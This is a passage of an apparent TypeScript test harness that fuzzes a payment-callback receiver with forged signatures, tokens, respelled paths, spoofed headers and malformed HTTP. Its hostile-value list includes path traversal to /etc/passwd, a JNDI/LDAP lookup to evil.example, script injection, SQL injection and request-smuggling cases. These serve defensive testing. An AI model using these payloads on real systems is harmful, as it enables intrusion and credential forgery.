      return [variant, text(qr ? { ...value, latestTransactionStatus: variantOf(['08', '0', '000', 'OK', ''], op.pick) } : withItem(value, { responseCode: variantOf(['abc', '200410', '20041000', ''], op.pick) })), 'refuse'];
    case 'missing-field': {
      const rest = { ...value };
      delete rest[qr ? 'merchantId' : 'bulkObject'];
      return [variant, text(rest), 'refuse'];
    }
    case 'too-many': {
      if (qr) {
        const rest = { ...value };
        delete rest.originalPartnerReferenceNo;
        delete rest.originalReferenceNo;
        return ['no-reference', text(rest), 'refuse'];
      }
      const items = Array.from({ length: MAX_BULK_ITEMS + 1 + (op.pick % 3) }, (_, k) => ({ ...BULK_ITEM, partnerReferenceNo: `HB-MANY-${ctx.tag}-${d.index}-${k}` }));
      return [variant, text({ ...value, bulkObject: items }), 'refuse'];
    }
    case 'bom':
      return [variant, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), d.body]), 'either'];
    case 'utf16':
      return [variant, Buffer.from(d.body.toString('utf8'), 'utf16le'), 'either'];
    case 'numbers':
      return [variant, Buffer.from(d.body.toString('utf8').replace(/"additionalInfo"\s*:\s*\{/, '"additionalInfo":{"n":[1e309,-0,1.0E7,0.1e-400,123456789012345678901234567890],')), 'either'];
    case 'big-string':
      return [variant, text({ ...value, additionalInfo: { big: 'y'.repeat(20_000 + (op.pick % 40_000)) } }), 'either'];
  }
}

/** The body's top-level keys in reverse order, which CONTRACT 3.2 does not accept as a form of it. */
function reordered(body: Buffer, style: JsonStyle): Buffer {
  try {
    const value = JSON.parse(body.toString('utf8')) as unknown;
    if (typeof value === 'object' && value !== null && !Array.isArray(value)) {
      const result = Buffer.from(serialize(Object.fromEntries(Object.entries(value).reverse()), style));
      if (!result.equals(body)) return result;
    }
  } catch {
    // Not JSON (a hostile body): fall through to another change no form can undo.
  }
  return Buffer.concat([body, Buffer.from('x')]);
}

function withItem(value: Record<string, unknown>, overrides: Record<string, unknown>): Record<string, unknown> {
  const items = value.bulkObject as Record<string, unknown>[];
  return { ...value, bulkObject: [{ ...items[0], ...overrides }, ...items.slice(1)] };
}

function offsetTimestamp(ms: number, hours: number): string {
  const sign = hours < 0 ? '-' : '+';
  const hh = String(Math.abs(hours)).padStart(2, '0');
  return `${new Date(ms + hours * 3600_000).toISOString().slice(0, 23)}${sign}${hh}:00`;
}

function malformedTimestamp(now: number, pick: number): string {
  const local = jakarta(now).slice(0, 19);
  const [date = '', time = ''] = local.split('T');
  return variantOf(
    [
      local,
      `${local}+0700`,
      `${local}+15:00`,
      `${local}+07:60`,
      `${local}-14:60`,
      `${local}+07`,
      `${local}+7:00`,
      `${local}+07:00:00`,
      `${date} ${time}+07:00`,
      `${date}t${time}+07:00`,
      `${local}z`,
      `${local}.1234567890+07:00`,
      `${date}T24:00:00+07:00`,
      `${date.slice(0, 5)}13${date.slice(7)}T${time}+07:00`,
      `${date.slice(0, 8)}32T${time}+07:00`,
      `0${local}+07:00`,
      String(now),
      String(Math.floor(now / 1000)),
      `${local}+07:00 ${local}+07:00`,
      new Date(now).toUTCString(),
    ],
    pick,
  );
}

// ---------------------------------------------------------------------------------------------
// Wire-side changes, after signing

interface Shape {
  readonly draft: SnapDraft;
  readonly recipe: Recipe;
  readonly ctx: RunContext;
}

function applySnapWire(op: Op, wire: WireRequest, shape: Shape): Step {
  const { draft } = shape;
  switch (op.name) {
    case 'body.bytes': {
      const before = wire.body ?? Buffer.alloc(0);
      const after = applyEdits(before, op.edits);
      wire.body = after;
      const label = `body.bytes:${op.edits.map((e) => `${e.kind}@${e.at % Math.max(1, before.length)}=${e.byte}`).join(',')}`;
      if (after.equals(before)) return { expect: 'accept', label };
      if (draft.kind === 'token') return { expect: grantAccepted(after) ? 'either' : 'refuse', label };
      // The same JSON value in other bytes: a signature over the value could not tell (CONTRACT 3.2's forms).
      return { expect: sameJson(after, before) ? 'either' : 'refuse', label };
    }
    case 'target.spelling':
      return spellSnapTarget(op, wire, draft);
    case 'method': {
      const method = variantOf(['HEAD', 'GET', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'], op.v);
      wire.method = method;
      return { expect: 'refuse', label: `method:${method}` };
    }
    case 'timestamp.wire':
      return changeHeader(wire, 'X-TIMESTAMP', 'timestamp.wire', timestampVariants(draft.timestamp, op), op.v);
    case 'signature.wire':
      return changeHeader(wire, 'X-SIGNATURE', 'signature.wire', signatureVariants(headerValue(wire, 'X-SIGNATURE') ?? '', op, draft), op.v);
    case 'credential.wire':
      return changeHeader(wire, 'Authorization', 'credential.wire', authorizationVariants(draft.token, op, shape.ctx), op.v);
    case 'header':
      return headerOp(op, wire, draft.kind);
    case 'raw':
      return rawOp(op, wire, draft.kind);
    default:
      throw new Error(`${op.name} is not a wire op`);
  }
}

type Variant = readonly [label: string, value: string, expect: Expect];

/** Sets the first `name` header to the chosen variant; a value equal to the old one changes nothing. */
function changeHeader(wire: WireRequest, name: string, op: string, variants: readonly Variant[], v: number): Step {
  const [label, value, expect] = variantOf(variants, v);
  const at = wire.headers.findIndex(([n]) => n.toLowerCase() === name.toLowerCase());
  if (at === -1) return { expect: 'accept', label: `${op}:${label}(absent)` };
  const [spelled, before] = wire.headers[at] as [string, string];
  wire.headers[at] = [spelled, value];
  return { expect: value.trim() === before.trim() ? 'accept' : expect, label: `${op}:${label}` };
}

function headerValue(wire: WireRequest, name: string): string | undefined {
  return wire.headers.find(([n]) => n.toLowerCase() === name.toLowerCase())?.[1];
}

function timestampVariants(timestamp: string, op: Op): readonly Variant[] {
  const at = Date.now();
  const shift = (op.pick % 2 === 0 ? 1 : -1) * (1 + (op.at % 86_400));
  return [
    ['shift', jakarta(at + shift * 1000), 'refuse'],
    ['same-instant-utc', new Date(Date.parse(timestamp)).toISOString().replace('.000Z', 'Z'), 'refuse'],
    ['fraction', timestamp.replace('+07:00', '.000+07:00'), 'refuse'],
    ['malformed', malformedTimestamp(at, op.pick), 'refuse'],
    ['empty', '', 'refuse'],
    ['ows', ` \t${timestamp}\t `, 'accept'],
  ];
}

const BASE64_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

function signatureVariants(signature: string, op: Op, d: SnapDraft): readonly Variant[] {
  const body = signature.replace(/=+$/, '');
  const padBits = (() => {
    // The last character before the padding carries bits that decoders ignore: another
    // spelling of the same bytes, which CONTRACT 3.2 refuses.
    const last = BASE64_ALPHABET.indexOf(body.at(-1) ?? 'A');
    const spare = signature.endsWith('==') ? 15 : 3;
    const changed = (last & ~spare) | ((op.pick % spare) + 1);
    return `${body.slice(0, -1)}${BASE64_ALPHABET[changed]}${signature.slice(body.length)}`;
  })();
  const one = oneChar(body, op.at, op.pick, BASE64_ALPHABET);
  const other = d.mode === 'symmetric' && d.kind !== 'token' ? hmac(`POST:${d.signedPath}:${d.token}:${sha256Hex('{}')}:${d.timestamp}`, SECRETS.clientSecretY) : rsa(`${PARTNERS.w}|${d.timestamp}`, PROVIDER_KEY);
  return [
    ['url-safe', signature.replace(/\+/g, '-').replace(/\//g, '_'), 'refuse'],
    ['unpadded', body, 'refuse'],
    ['url-safe-unpadded', body.replace(/\+/g, '-').replace(/\//g, '_'), 'refuse'],
    ['extra-padding', `${signature}=`, 'refuse'],
    ['pad-bits', padBits, 'refuse'],
    ['one-char', `${one}${signature.slice(body.length)}`, 'refuse'],
    ['junk-suffix', `${signature}${variantOf(['A', '!', '==', '.', 'AAAA'], op.pick)}`, 'refuse'],
    ['hex', Buffer.from(signature, 'base64').toString('hex'), 'refuse'],
    ['space-inside', `${signature.slice(0, 40)} ${signature.slice(40)}`, 'refuse'],
    ['lower', signature.toLowerCase(), 'refuse'],
    ['truncated', signature.slice(0, -4), 'refuse'],
    ['doubled', `${signature}${signature}`, 'refuse'],
    ['from-another-request', other, 'refuse'],
    ['empty', '', 'refuse'],
    ['ows', `\t ${signature} `, 'accept'],
  ];
}

function authorizationVariants(token: string, op: Op, ctx: RunContext): readonly Variant[] {
  const flipped = flipCase(token, op.at);
  return [
    ['one-char', `Bearer ${oneChar(token, op.at, op.pick)}`, 'refuse'],
    ['case', `Bearer ${flipped}`, 'refuse'],
    ['truncated', `Bearer ${token.slice(0, -1 - (op.pick % 4))}`, 'refuse'],
    ['extended', `Bearer ${token}${variantOf(['A', '=', '.', '0'], op.pick)}`, 'refuse'],
    ['other-source', `Bearer ${ctx.tokenW}`, 'refuse'],
    ['biller-token', `Bearer ${SECRETS.billerA}`, 'refuse'],
    ['client-secret', `Bearer ${SECRETS.clientSecretY}`, 'refuse'],
    ['admin-token', `Bearer ${SECRETS.admin}`, 'refuse'],
    ['empty', 'Bearer ', 'refuse'],
    ['no-scheme', token, 'refuse'],
    ['basic', `Basic ${token}`, 'refuse'],
    ['extra-word', `Bearer ${token} ${token}`, 'refuse'],
    ['lower-scheme', `bearer ${token}`, 'either'],
    ['double-space', `Bearer  ${token}`, 'either'],
    ['tab', `Bearer\t${token}`, 'either'],
    ['ows', ` Bearer ${token}\t`, 'accept'],
  ];
}

function spellSnapTarget(op: Op, wire: WireRequest, d: SnapDraft): Step {
  const variant = variantOf(['query', 'case', 'encoded', 'double-slash', 'trailing-slash', 'dot-segment', 'backslash', 'absolute', 'other-route'] as const, op.v);
  const notify = d.kind !== 'token';
  let expect: Expect;
  if (variant === 'query') {
    wire.target += variantOf(['?a=1', '?', '?x=%00&y=%ZZ', '?__proto__[x]=1&a[]=1', '?status=0&refid=1', `?pad=${'q'.repeat(4000)}`], op.pick);
    // CONTRACT 3.2: the path without its query string is tried too.
    expect = 'accept';
  } else if (variant === 'absolute') {
    wire.target = `${variantOf(['http://receiver.example', 'https://127.0.0.1:1', 'http://evil.example:8080'], op.pick)}${wire.target}`;
    expect = 'either';
  } else if (variant === 'other-route') {
    wire.target = otherRoute(wire.target, op.pick);
    expect = 'refuse';
  } else {
    wire.target = respellPath(wire.target, variant, op.at, op.pick);
    // The signature covers the path as received; the token route signs no path at all.
    expect = notify && wire.target !== d.signedPath ? 'refuse' : 'either';
  }
  return { expect, label: `target.spelling:${variant}` };
}

function otherRoute(route: string, pick: number): string {
  const others = Object.values(ROUTES).filter((r) => r !== route);
  return variantOf([...others, '/callbacks/biller/biller-a'], pick);
}

type Respelling = 'case' | 'encoded' | 'double-slash' | 'trailing-slash' | 'dot-segment' | 'backslash';

function respellPath(path: string, how: Respelling, at: number, pick: number): string {
  const letters = [...path].map((c, i) => (/[a-z]/i.test(c) ? i : -1)).filter((i) => i >= 0);
  const slashes = [...path].map((c, i) => (c === '/' ? i : -1)).filter((i) => i > 0);
  switch (how) {
    case 'case': {
      const i = letters[at % letters.length] as number;
      return `${path.slice(0, i)}${(path[i] as string).toUpperCase()}${path.slice(i + 1)}`;
    }
    case 'encoded': {
      const i = 1 + (at % (path.length - 1));
      const hex = (path.charCodeAt(i) as number).toString(16).padStart(2, '0');
      return `${path.slice(0, i)}%${pick % 2 === 0 ? hex.toUpperCase() : hex}${path.slice(i + 1)}`;
    }
    case 'double-slash': {
      const i = slashes.length > 0 ? (slashes[at % slashes.length] as number) : 0;
      return `${path.slice(0, i)}/${path.slice(i)}`;
    }
    case 'trailing-slash':
      return `${path}/`;
    case 'dot-segment': {
      const i = slashes.length > 0 ? (slashes[at % slashes.length] as number) : 0;
      return `${path.slice(0, i)}${pick % 2 === 0 ? '/.' : '/x/..'}${path.slice(i)}`;
    }
    case 'backslash': {
      const i = slashes.length > 0 ? (slashes[at % slashes.length] as number) : 0;
      return `${path.slice(0, i)}\\${path.slice(i + 1)}`;
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Headers and raw quirks, for every kind

type Role = 'signed' | 'format' | 'presence' | 'free' | 'host';

function roleOf(kind: Kind, name: string): Role {
  const lower = name.toLowerCase();
  if (lower === 'host') return 'host';
  if (kind === 'biller') return 'free';
  if (['x-timestamp', 'x-signature', 'x-partner-id', 'x-client-key', 'authorization'].includes(lower)) return 'signed';
  if (lower === 'x-external-id') return 'format';
  if (lower === 'channel-id') return 'presence';
  return 'free';
}

const HOSTILE_VALUES: readonly string[] = [
  '',
  'A'.repeat(9000),
  'A'.repeat(17_000),
  'x\ty',
  '\u00e9\u00ff\u00c0',
  PARTNERS.x,
  PARTNERS.z,
  '0',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'null',
  '[object Object]',
  '%00%0d%0a',
  '1e309',
  "' OR '1'='1",
];

const ADDED_HEADERS: readonly (readonly [string, string, Expect])[] = [
  ['X-Forwarded-For', '203.0.113.10', 'accept'],
  ['X-Forwarded-For', '198.51.100.7, 10.0.0.1', 'accept'],
  ['X-Forwarded-For', 'not-an-ip, ::ffff:127.0.0.1', 'accept'],
  ['X-Real-IP', '198.51.100.7', 'accept'],
  ['Forwarded', 'for="[2001:db8::1]";by=203.0.113.10', 'accept'],
  ['X-HTTP-Method-Override', 'GET', 'accept'],
  ['X-Original-URL', '/admin/inbound', 'accept'],
  ['X-Api-Key', SECRETS.admin, 'accept'],
  ['Cookie', `session=${SECRETS.admin}`, 'accept'],
  ['Proxy-Authorization', `Bearer ${SECRETS.admin}`, 'accept'],
  ['Content-Encoding', 'gzip', 'either'],
  ['X-Oversized', 'z'.repeat(17_000), 'refuse'],
];

const WRONG_TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/xml', '*/*'];

function headerOp(op: Op, wire: WireRequest, kind: Kind): Step {
  const action = variantOf(['drop', 'duplicate', 'case', 'value', 'ows', 'add', 'content-type'] as const, op.v);
  const index = op.at % wire.headers.length;
  const [name, value] = wire.headers[index] as [string, string];
  const role = roleOf(kind, name);
  const label = `header:${action}:${name}`;
  switch (action) {
    case 'drop':
      wire.headers.splice(index, 1);
      // Host is node's business (HTTP/1.1 needs it, 1.0 does not); Content-Type and the like are not checked.
      return { expect: role === 'free' || role === 'host' ? 'either' : 'refuse', label };
    case 'duplicate': {
      const second = op.pick % 2 === 0 ? value : variantOf(HOSTILE_VALUES, op.pick >> 1);
      wire.headers.splice(index + (op.pick % 3 === 0 ? 0 : 1), 0, [op.pick % 4 === 0 ? name.toLowerCase() : name, second]);
      // Which of two values counts is node's choice (joined, or the first kept), not a forgery.
      return { expect: 'either', label };
    }
    case 'case':
      wire.headers[index] = [flipCaseAll(name, op.pick), value];
      return { expect: 'accept', label };
    case 'value': {
      const next = variantOf(HOSTILE_VALUES, op.pick);
      wire.headers[index] = [name, next];
      if (next.trim() === value.trim()) return { expect: 'accept', label };
      if (role === 'signed') return { expect: 'refuse', label };
      if (role === 'format') return { expect: /^[\x21-\x7e]{1,64}$/.test(next.trim()) ? 'either' : 'refuse', label };
      if (role === 'presence') return { expect: next.trim() === '' ? 'refuse' : 'either', label };
      return { expect: 'either', label };
    }
    case 'ows':
      // Spaces and tabs around a field value are not part of it (RFC 9110 5.5).
      wire.headers[index] = [name, `${variantOf([' ', '\t', ' \t '], op.pick)}${value}${variantOf(['', ' ', '\t'], op.pick >> 2)}`];
      return { expect: 'accept', label };
    case 'add': {
      const [added, addedValue, expect] = variantOf(ADDED_HEADERS, op.pick);
      wire.headers.splice(index, 0, [added, addedValue]);
      return { expect, label: `header:add:${added}` };
    }
    case 'content-type': {
      const at = wire.headers.findIndex(([n]) => n.toLowerCase() === 'content-type');
      const type = variantOf(WRONG_TYPES, op.pick);
      if (at === -1) wire.headers.push(['Content-Type', type]);
      else wire.headers[at] = [(wire.headers[at] as [string, string])[0], type];
      return { expect: 'either', label: `header:content-type:${type}` };
    }
  }
}

const CONTROL_CHARS = ['\x00', '\x01', '\x1b', '\x7f', '\r', '\x0b', '\n'];

function rawOp(op: Op, wire: WireRequest, kind: Kind): Step {
  const variant = variantOf(['ctl-free', 'ctl-checked', 'lower-method', 'http10', 'space-target', 'obs-fold', 'te-cl', 'lf-only', 'ctl-target'] as const, op.v);
  wire.raw = { version: 'HTTP/1.1', lineEnd: '\r\n', contentLength: false };
  const ctl = variantOf(CONTROL_CHARS, op.pick);
  const label = `raw:${variant}:${JSON.stringify(ctl)}`;
  switch (variant) {
    case 'ctl-free':
      wire.headers.push(['X-Hostile-Note', `a${ctl}b`]);
      return { expect: 'either', label };
    case 'ctl-checked': {
      // A control character inside what the receiver checks: the parser or the check must refuse.
      const name = kind === 'biller' ? 'host' : 'x-timestamp';
      const at = wire.headers.findIndex(([n]) => n.toLowerCase() === name);
      // Dropped by a header op already, which refuses the request by itself.
      if (at === -1) return { expect: kind === 'biller' ? 'either' : 'refuse', label: `${label}(absent)` };
      const [spelled, value] = wire.headers[at] as [string, string];
      wire.headers[at] = [spelled, `${value.slice(0, 5)}${ctl}${value.slice(5)}`];
      return { expect: kind === 'biller' ? 'either' : 'refuse', label };
    }
    case 'lower-method':
      wire.method = wire.method.toLowerCase();
      return { expect: 'refuse', label: `raw:${variant}` };
    case 'http10':
      wire.raw.version = 'HTTP/1.0';
      return { expect: 'either', label: `raw:${variant}` };
    case 'space-target': {
      // Inside the target, never at its end: node's parser reads `/path  HTTP/1.1` as `/path`.
      const at = 1 + (op.at % Math.max(1, wire.target.length - 2));
      wire.target = `${wire.target.slice(0, at)} ${wire.target.slice(at)}`;
      return { expect: 'refuse', label: `raw:${variant}` };
    }
    case 'obs-fold':
      wire.headers.push(['X-Folded', 'first\r\n second']);
      return { expect: 'either', label: `raw:${variant}` };
    case 'te-cl':
      wire.chunked = true;
      wire.raw.contentLength = true;
      return { expect: 'either', label: `raw:${variant}` };
    case 'lf-only':
      wire.raw.lineEnd = '\n';
      return { expect: 'either', label: `raw:${variant}` };
    case 'ctl-target':
      wire.target = `${wire.target.slice(0, 6)}${ctl === '\r' || ctl === '\n' ? '\x00' : ctl}${wire.target.slice(6)}`;
      return { expect: 'refuse', label };
  }
}

// ---------------------------------------------------------------------------------------------
// Biller callbacks: the path token is their only credential, so only it (and the route) can forge

interface BillerDraft {
  source: string;
  /** The token as written in the path (maybe percent-encoded); null for no token segment. */
  token: string | null;
  params: string[];
  shape: (source: string, token: string | null) => string;
  extraHeaders: [string, string][];
}

const billerShape = (source: string, token: string | null) => `/callbacks/biller/${source}${token === null ? '' : `/${token}`}`;

function buildBiller(recipe: Recipe, index: number, ctx: RunContext, ops: readonly Op[], special: Special): Built {
  const refid = `HBL-${ctx.tag}-${index}`;
  const message = variantOf(
    [
      `SUKSES. SN: 0123${index}. Saldo Rp1,201,200. Harga 10,100. Tgl 22/11/2026 10:00`,
      `GAGAL. Nomor tujuan salah. Saldo 99,999`,
      `Trx ${refid} berhasil`,
    ],
    recipe.choice,
  );
  const d: BillerDraft = {
    source: 'biller-a',
    token: SECRETS.billerA,
    params: [
      `status=${recipe.choice % 5 === 0 ? '1' : '0'}`,
      `refid=${refid}`,
      'product=PLN20',
      'qty=1',
      'dest=081234567890',
      `message=${recipe.choice % 2 === 0 ? encodeURIComponent(message) : encodeURIComponent(message).replace(/%20/g, '+')}`,
    ],
    shape: billerShape,
    extraHeaders: [],
  };
  const steps: Step[] = [];
  const ordered = (names: readonly OpName[]) => names.flatMap((name) => ops.filter((op) => op.name === name));
  for (const op of ordered(['source.biller', 'credential.biller', 'target.biller', 'query.biller'])) steps.push(applyBillerIntent(op, d, ctx));
  const wire: WireRequest = {
    method: 'GET',
    target: `${d.shape(d.source, d.token)}?${d.params.join('&')}`,
    headers: [['Host', `127.0.0.1:${ctx.port}`], ['User-Agent', 'biller-gateway/2.1'], ['Accept', '*/*'], ...d.extraHeaders],
    body: null,
    chunked: special === 'huge-chunked',
    raw: null,
  };
  if (special === 'huge-declared' || special === 'huge-chunked') {
    wire.body = Buffer.alloc(HUGE_BYTES, 0x62);
    // CONTRACT 3: a body over 1 MiB is 413 on every public route, this GET one included.
    steps.push({ expect: 'refuse', label: `huge:${special}` });
  }
  for (const op of ordered(['method', 'header', 'raw'])) {
    if (op.name === 'method') {
      wire.method = variantOf(['HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'], op.v);
      if (op.pick % 2 === 0 && wire.method !== 'HEAD') wire.body = Buffer.from(`status=0&refid=${refid}`);
      steps.push({ expect: 'refuse', label: `method:${wire.method}` });
    } else if (op.name === 'header') {
      steps.push(headerOp(op, wire, 'biller'));
    } else {
      steps.push(rawOp(op, wire, 'biller'));
    }
  }
  const sentSecrets = [d.token ?? '', ...d.params.filter((p) => p.startsWith('token=')).map((p) => p.slice(6))].filter((s) => s.length >= 16);
  return { wire, expect: steps.reduce<Expect>((e, s) => worst(e, s.expect), 'accept'), ops: steps.map((s) => s.label), sentSecrets };
}

function applyBillerIntent(op: Op, d: BillerDraft, ctx: RunContext): Step {
  switch (op.name) {
    case 'source.biller': {
      const variant = variantOf(['other', 'other-spoofed', 'case', 'unknown', 'missing', 'nul', 'encoded'] as const, op.v);
      let expect: Expect = 'refuse';
      if (variant === 'other') d.source = 'biller-b';
      if (variant === 'other-spoofed') {
        d.source = 'biller-b';
        d.token = SECRETS.billerB;
        d.extraHeaders.push(variantOf<[string, string]>([['X-Forwarded-For', BILLER_B_IP], ['X-Real-IP', BILLER_B_IP], ['Forwarded', `for=${BILLER_B_IP}`]], op.pick));
      }
      if (variant === 'case') d.source = 'Biller-A';
      if (variant === 'unknown') d.source = 'biller-q';
      if (variant === 'missing') d.shape = (_source, token) => `/callbacks/biller${token === null ? '' : `/${token}`}`;
      if (variant === 'nul') d.source = 'biller%00a';
      if (variant === 'encoded') {
        // %2D is `-`: the same source id once decoded, so the same request.
        d.source = 'biller%2Da';
        expect = 'either';
      }
      return { expect, label: `source.biller:${variant}` };
    }
    case 'credential.biller': {
      const variant = variantOf(
        ['one-char', 'case', 'truncated', 'extended', 'missing', 'empty', 'other-biller', 'client-secret', 'access-token', 'admin-token', 'in-query', 'encoded-char', 'double-encoded', 'leading-space'] as const,
        op.v,
      );
      const real = d.token ?? SECRETS.billerA;
      let expect: Expect = 'refuse';
      switch (variant) {
        case 'one-char':
          d.token = oneChar(real, op.at, op.pick);
          break;
        case 'case':
          d.token = flipCase(real, op.at);
          break;
        case 'truncated':
          d.token = real.slice(0, -1 - (op.pick % 4));
          break;
        case 'extended':
          d.token = `${real}${variantOf(['x', '0', '-', '~'], op.pick)}`;
          break;
        case 'missing':
          d.token = null;
          break;
        case 'empty':
          d.token = '';
          break;
        case 'other-biller':
          d.token = real === SECRETS.billerB ? SECRETS.billerA : SECRETS.billerB;
          break;
        case 'client-secret':
          d.token = SECRETS.clientSecretY;
          break;
        case 'access-token':
          d.token = ctx.tokenW;
          break;
        case 'admin-token':
          d.token = SECRETS.admin;
          break;
        case 'in-query':
          // Some gateways are set up to send the token as a parameter: it is still the secret.
          d.token = null;
          d.params.push(`token=${real}`);
          break;
        case 'encoded-char': {
          const i = op.at % real.length;
          d.token = `${real.slice(0, i)}%${(real.charCodeAt(i) as number).toString(16).toUpperCase()}${real.slice(i + 1)}`;
          // Percent-encoding an unreserved character names the same segment (RFC 3986 2.3).
          expect = 'either';
          break;
        }
        case 'double-encoded': {
          const i = op.at % real.length;
          d.token = `${real.slice(0, i)}%25${(real.charCodeAt(i) as number).toString(16).toUpperCase()}${real.slice(i + 1)}`;
          break;
        }
        case 'leading-space':
          d.token = `%20${real}`;
          break;
      }
      return { expect, label: `credential.biller:${variant}` };
    }
    case 'target.biller': {
      const variant = variantOf(
        ['case-words', 'encoded-word', 'double-slash', 'trailing-slash', 'absolute', 'dot-segment', 'backslash', 'encoded-slash', 'matrix', 'typo', 'extra-segment', 'prefix'] as const,
        op.v,
      );
      const expect: Expect = ['encoded-slash', 'matrix', 'typo', 'extra-segment', 'prefix'].includes(variant) ? 'refuse' : 'either';
      const tail = (t: string | null) => (t === null ? '' : t);
      const shapes: Record<typeof variant, BillerDraft['shape']> = {
        'case-words': (s, t) => `/${variantOf(['CALLBACKS/BILLER', 'Callbacks/Biller', 'callbacks/BILLER'], op.pick)}/${s}/${tail(t)}`,
        'encoded-word': (s, t) => `/${variantOf(['%63allbacks/biller', 'callbacks/%62iller', '%63%61llbacks/bille%72'], op.pick)}/${s}/${tail(t)}`,
        'double-slash': (s, t) => variantOf([`//callbacks/biller/${s}/${tail(t)}`, `/callbacks//biller/${s}/${tail(t)}`, `/callbacks/biller/${s}//${tail(t)}`], op.pick),
        'trailing-slash': (s, t) => `${billerShape(s, t)}/`,
        absolute: (s, t) => `${variantOf(['http://receiver.example', 'https://127.0.0.1', 'http://evil.example:81'], op.pick)}${billerShape(s, t)}`,
        'dot-segment': (s, t) => variantOf([`/callbacks/./biller/${s}/${tail(t)}`, `/x/../callbacks/biller/${s}/${tail(t)}`, `/callbacks/biller/${s}/./${tail(t)}`], op.pick),
        backslash: (s, t) => variantOf([`/callbacks\\biller\\${s}\\${tail(t)}`, `/callbacks/biller/${s}\\${tail(t)}`], op.pick),
        'encoded-slash': (s, t) => `/callbacks/biller/${s}${variantOf(['%2F', '%2f', '%5C'], op.pick)}${tail(t)}`,
        matrix: (s, t) => `${billerShape(s, t)};v=1`,
        typo: (s, t) => `/${variantOf(['callbacks/billers', 'callback/biller', 'callbacks/bi11er', 'callbacks-biller'], op.pick)}/${s}/${tail(t)}`,
        'extra-segment': (s, t) => `${billerShape(s, t)}/again`,
        prefix: (s, t) => `/api${billerShape(s, t)}`,
      };
      d.shape = shapes[variant];
      return { expect, label: `target.biller:${variant}` };
    }
    case 'query.biller': {
      const variant = variantOf(
        ['status-bad', 'status-failed', 'refid-missing', 'refid-empty', 'refid-long', 'refid-control', 'refid-twice', 'extra', 'nul-message', 'bad-encoding', 'latin1', 'huge-url', 'array'] as const,
        op.v,
      );
      const refid = d.params.find((p) => p.startsWith('refid=')) ?? '';
      const set = (name: string, value: string | null) => {
        d.params = d.params.filter((p) => !p.startsWith(`${name}=`));
        if (value !== null) d.params.push(`${name}=${value}`);
      };
      const outcomes: Record<typeof variant, Expect> = {
        'status-bad': 'refuse',
        'status-failed': 'either',
        'refid-missing': 'refuse',
        'refid-empty': 'refuse',
        'refid-long': 'refuse',
        'refid-control': 'refuse',
        'refid-twice': 'either',
        extra: 'either',
        'nul-message': 'either',
        'bad-encoding': 'either',
        latin1: 'either',
        'huge-url': 'refuse',
        array: 'either',
      };
      if (variant === 'status-bad') set('status', variantOf(['2', '', '00', '0%20', '%30%30', '-0'], op.pick));
      if (variant === 'status-failed') set('status', '1');
      if (variant === 'refid-missing') set('refid', null);
      if (variant === 'refid-empty') set('refid', '');
      if (variant === 'refid-long') set('refid', `${refid.slice(6)}${'R'.repeat(65)}`);
      if (variant === 'refid-control') set('refid', `${refid.slice(6)}${variantOf(['%00', '%01', '%1F', '%7F', '%0A'], op.pick)}`);
      if (variant === 'refid-twice') d.params.push(`refid=${refid.slice(6)}-again`);
      if (variant === 'extra') d.params.push(variantOf(['__proto__[admin]=1', 'constructor[prototype][x]=1', 'status[]=0', 'a=%ZZ', `pad=${'p'.repeat(3000)}`], op.pick));
      if (variant === 'nul-message') set('message', variantOf(['%00', 'SN%3A%00%00', `${'%00'.repeat(50)}`], op.pick));
      if (variant === 'bad-encoding') set('message', variantOf(['%ZZ%', '%E0%A4', '%C0%AF', '%ED%A0%80'], op.pick));
      if (variant === 'latin1') set('product', variantOf(['%E9%FF', '%C3%28', '%F0%9F%92%A9'], op.pick));
      if (variant === 'huge-url') d.params.push(`pad=${'u'.repeat(8200)}`);
      if (variant === 'array') d.params.push(variantOf(['status[]=0', 'refid[]=x', 'refid[a]=b'], op.pick));
      return { expect: outcomes[variant], label: `query.biller:${variant}` };
    }
    default:
      throw new Error(`${op.name} is not a biller op`);
  }
}

// ---------------------------------------------------------------------------------------------
// Small pure helpers

function applyEdits(body: Buffer, edits: readonly Edit[]): Buffer {
  let out = Buffer.from(body);
  for (const edit of edits) {
    if (out.length === 0 || edit.kind === 'insert') {
      const at = edit.at % (out.length + 1);
      out = Buffer.concat([out.subarray(0, at), Buffer.from([edit.byte]), out.subarray(at)]);
    } else if (edit.kind === 'replace') {
      const at = edit.at % out.length;
      out[at] = out[at] === edit.byte ? (edit.byte + 1) % 256 : edit.byte;
    } else {
      const at = edit.at % out.length;
      out = Buffer.concat([out.subarray(0, at), out.subarray(at + 1)]);
    }
  }
  return out;
}

/** Same JSON value: a change a provider's signature over the value (not the bytes) could not see. */
function sameJson(a: Buffer, b: Buffer): boolean {
  try {
    return JSON.stringify(JSON.parse(a.toString('utf8'))) === JSON.stringify(JSON.parse(b.toString('utf8')));
  } catch {
    return false;
  }
}

/** CONTRACT 3.2's token-request body rule, written from the contract, for body.bytes on it. */
function grantAccepted(body: Buffer): boolean {
  try {
    const value = JSON.parse(body.toString('utf8')) as unknown;
    if (typeof value !== 'object' || value === null || Array.isArray(value)) return false;
    const record = value as Record<string, unknown>;
    return (record.grantType ?? record.grant_type) === 'client_credentials';
  } catch {
    return false;
  }
}

function oneChar(text: string, at: number, pick: number, alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'): string {
  const i = at % text.length;
  const others = [...alphabet].filter((c) => c !== text[i]);
  return `${text.slice(0, i)}${others[pick % others.length]}${text.slice(i + 1)}`;
}

/** Flips the case of one letter at or after `at`; another token whenever there is a letter. */
function flipCase(text: string, at: number): string {
  for (let k = 0; k < text.length; k++) {
    const i = (at + k) % text.length;
    const c = text[i] as string;
    if (c.toLowerCase() !== c.toUpperCase()) return `${text.slice(0, i)}${c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase()}${text.slice(i + 1)}`;
  }
  return `${text}x`;
}

function flipCaseAll(name: string, bits: number): string {
  return [...name].map((c, i) => ((bits >> i % 20) & 1 ? c.toUpperCase() : c.toLowerCase())).join('');
}

// ---------------------------------------------------------------------------------------------
// Finding secrets in text

